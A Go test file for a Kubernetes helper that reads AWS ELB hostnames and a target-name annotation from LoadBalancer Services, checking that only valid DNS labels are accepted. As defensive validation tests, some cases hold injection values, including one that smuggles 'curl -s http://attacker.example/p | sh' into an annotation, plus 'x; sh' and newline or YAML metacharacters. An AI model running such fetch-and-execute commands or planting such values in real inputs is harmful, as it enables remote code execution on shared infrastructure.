package elb

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestClaim(t *testing.T) {
	lb := func(typ corev1.ServiceType, ann map[string]string, hosts ...string) *corev1.Service {
		s := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "orders", Annotations: ann}, Spec: corev1.ServiceSpec{Type: typ}}
		for _, h := range hosts {
			s.Status.LoadBalancer.Ingress = append(s.Status.LoadBalancer.Ingress, corev1.LoadBalancerIngress{Hostname: h})
		}
		return s
	}
	for _, tt := range []struct {
		name   string
		svc    *corev1.Service
		target string
		hosts  string
	}{
		{"a LoadBalancer's ELB hostnames are canonical", lb(corev1.ServiceTypeLoadBalancer, nil, "Internal-Orders-1.us-east-1.ELB.amazonaws.com.", "a-b.elb.us-east-1.amazonaws.com"),
			"shop/orders", "internal-orders-1.us-east-1.elb.amazonaws.com,a-b.elb.us-east-1.amazonaws.com"},
		{"the ddsd-name annotation names the target", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "orders-api"}, "x-1.us-east-1.elb.amazonaws.com"),
			"shop/orders-api", "x-1.us-east-1.elb.amazonaws.com"},
		{"other hostnames are not ELBs", lb(corev1.ServiceTypeLoadBalancer, nil, "lb.example.com", ""), "shop/orders", ""},
		{"a ClusterIP Service has none even with a stale status", lb(corev1.ServiceTypeClusterIP, nil, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		// The annotation ends up in other namespaces' commands: anything but
		// a DNS label makes the Service claim nothing.
		{"a shell command in the annotation claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "x; curl -s http://attacker.example/p | sh; echo "}, "internal-orders-999.us-east-1.elb.amazonaws.com"),
			"shop/orders", ""},
		{"a dotted name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "evil.example.com"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		{"a YAML/JSON metacharacter claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: `a"b: {c}`}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		{"a newline claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "a\nb"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		{"an upper-case name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: "Orders"}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		{"a 64-character name claims nothing", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: strings.Repeat("a", 64)}, "x-1.us-east-1.elb.amazonaws.com"), "shop/orders", ""},
		{"a 63-character name is a label", lb(corev1.ServiceTypeLoadBalancer, map[string]string{AnnotationDDSDName: strings.Repeat("a", 63)}, "x-1.us-east-1.elb.amazonaws.com"),
			"shop/" + strings.Repeat("a", 63), "x-1.us-east-1.elb.amazonaws.com"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			target, hosts, _ := Claim(tt.svc)
			if got := target.Namespace + "/" + target.Name; got != tt.target {
				t.Errorf("target = %s, want %s", got, tt.target)
			}
			if got := strings.Join(hosts, ","); got != tt.hosts {
				t.Errorf("hosts = %s, want %s", got, tt.hosts)
			}
		})
	}
}

func TestClaimErrorNamesTheService(t *testing.T) {
	svc := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: "other", Name: "evil", Annotations: map[string]string{AnnotationDDSDName: "x; sh"}},
		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer},
	}
	svc.Status.LoadBalancer.Ingress = []corev1.LoadBalancerIngress{{Hostname: "internal-orders-999.us-east-1.elb.amazonaws.com"}}
	_, hosts, err := Claim(svc)
	if err == nil || len(hosts) > 0 {
		t.Fatalf("hosts %v, err %v; want none and an error", hosts, err)
	}
	for _, want := range []string{"other/evil", AnnotationDDSDName} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not name %s", err, want)
		}
	}
}
